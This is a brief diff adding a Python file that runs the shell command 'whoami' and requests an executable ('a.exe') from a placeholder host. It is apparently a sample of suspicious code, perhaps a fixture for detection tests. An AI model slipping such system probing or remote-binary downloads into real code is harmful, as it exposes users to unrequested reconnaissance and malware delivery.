@@ -1,0 +1,5 @@
+import os
+import requests
+
+os.system("whoami")
+requests.get("http://files.invalid/a.exe")
